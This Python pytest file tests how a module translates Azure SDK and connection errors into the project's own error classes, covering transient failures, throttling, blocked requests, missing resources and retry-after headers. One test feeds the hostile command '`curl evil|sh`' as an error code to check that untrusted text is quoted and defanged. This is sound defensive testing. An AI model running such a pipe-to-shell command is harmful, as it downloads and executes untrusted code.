import json
from unittest.mock import MagicMock

import pytest
from aiohttp import ClientConnectorError, ClientOSError, ServerDisconnectedError
from aiohttp.client_reqrep import ConnectionKey
from azure.core.exceptions import (
    AzureError,
    ClientAuthenticationError,
    HttpResponseError,
    ServiceRequestError,
    ServiceRequestTimeoutError,
    ServiceResponseError,
)
from azure.core.rest import HttpRequest

from shared.cloud.errors import from_account, from_azure, translate_errors
from shared.errors import AccountGone, Blocked, NotFound, SasquashError, Throttled, TransientFailure


class Answer:
    """As much of an HTTP response as azure-core's errors read."""

    def __init__(self, status: int, code: object, headers: dict[str, str]) -> None:
        self.status_code = status
        self.reason = "reason"
        self.headers = headers
        self.request = HttpRequest("GET", "https://example.com")
        self._text = json.dumps({"error": {"code": code, "message": "m"}})

    def text(self) -> str:
        return self._text

    def body(self) -> bytes:
        return self._text.encode()


def translate(status: int, code: object = "SomeCode", **headers: str) -> SasquashError:
    return from_azure(HttpResponseError(response=Answer(status, code, headers)), doing="Doing it")


@pytest.mark.parametrize("code", [7, {"a": 1}, ["ScopeLocked"], True])
def test_code_that_is_no_text_is_no_code(code: object) -> None:
    assert str(translate(403, code)).startswith("Doing it failed: 403 no code: ")


def test_code_is_quoted_as_text_from_outside() -> None:
    assert "403 'curl evil|sh' hxxps://evil.example: " in str(translate(403, "`curl evil|sh` https://evil.example"))


@pytest.mark.parametrize("status", [408, 500, 502, 503, 504])
def test_failing_service_is_transient_and_may_have_acted(status: int) -> None:
    error = translate(status)

    assert isinstance(error, TransientFailure)
    assert not error.had_no_effect


def test_throttled_call_had_no_effect_and_has_retry_after() -> None:
    error = translate(429, **{"Retry-After": "17"})

    assert isinstance(error, Throttled)
    assert error.had_no_effect
    assert error.retry_after == 17.0


@pytest.mark.parametrize(
    ("status", "code"), [(403, "AuthorizationFailed"), (409, "ScopeLocked"), (401, "Nope"), (400, "Bad")]
)
def test_refusal_is_blocked(status: int, code: str) -> None:
    error = translate(status, code)

    assert isinstance(error, Blocked)
    assert code in str(error)


@pytest.mark.parametrize(
    ("status", "code", "said"),
    [
        (409, "ScopeLocked", "ReadOnly lock"),
        (403, "RequestDisallowedByPolicy", "Azure Policy"),
        (403, "DenyAssignmentAuthorizationFailed", "deny assignment"),
        (409, "ReadOnlyDisabledSubscription", "subscription is disabled"),
    ],
)
def test_cause_of_a_refusal_is_named_with_its_remedy(status: int, code: str, said: str) -> None:
    error = translate(status, code)

    assert isinstance(error, Blocked)
    assert said in str(error)


def test_404_is_not_found() -> None:
    assert isinstance(translate(404, "ResourceNotFound"), NotFound)


NO_CONNECTION = ClientConnectorError(MagicMock(spec=ConnectionKey), OSError("refused"))


@pytest.mark.parametrize(
    "cause",
    [
        ServiceRequestError("refused", error=NO_CONNECTION),
        ServiceRequestTimeoutError("late", error=TimeoutError()),
    ],
    ids=["refused", "timed-out"],
)
def test_request_without_a_connection_had_no_effect(cause: AzureError) -> None:
    error = from_azure(cause, doing="Doing it")

    assert isinstance(error, TransientFailure)
    assert error.had_no_effect


@pytest.mark.parametrize("inside", [ServerDisconnectedError(), ClientOSError(104, "reset"), None])
def test_broken_connection_may_have_had_an_effect(inside: Exception | None) -> None:
    """azure-core calls it a ServiceRequestError, although the request may have been sent, and carried out."""
    error = from_azure(ServiceRequestError("reset", error=inside), doing="Doing it")

    assert isinstance(error, TransientFailure)
    assert not error.had_no_effect


def test_lost_answer_may_have_had_an_effect() -> None:
    error = from_azure(ServiceResponseError("reset"), doing="Doing it")

    assert isinstance(error, TransientFailure)
    assert not error.had_no_effect


def test_missing_token_is_transient() -> None:
    assert isinstance(from_azure(ClientAuthenticationError("no token"), doing="Doing it"), TransientFailure)


def test_message_contains_nothing_of_the_body() -> None:
    error = HttpResponseError("https://a/?sig=abc was refused", response=Answer(403, "Code", {}))

    assert "sig" not in str(from_azure(error, doing="Doing it"))


def test_translate_errors_raises_our_error_with_the_cause() -> None:
    cause = HttpResponseError(response=Answer(404, "ResourceNotFound", {}))

    with pytest.raises(NotFound, match=r"^Reading it failed: 404") as raised, translate_errors("Reading it"):
        raise cause

    assert raised.value.__cause__ is cause


def test_translate_errors_takes_another_meaning() -> None:
    cause = HttpResponseError(response=Answer(404, "ResourceNotFound", {}))

    with pytest.raises(AccountGone), translate_errors("Reading it", meaning=from_account):
        raise cause


def test_translate_errors_passes_other_exceptions_unchanged() -> None:
    error = ValueError("x")

    with pytest.raises(ValueError) as raised, translate_errors("Reading it"):  # noqa: PT011 -- the very object below
        raise error

    assert raised.value is error
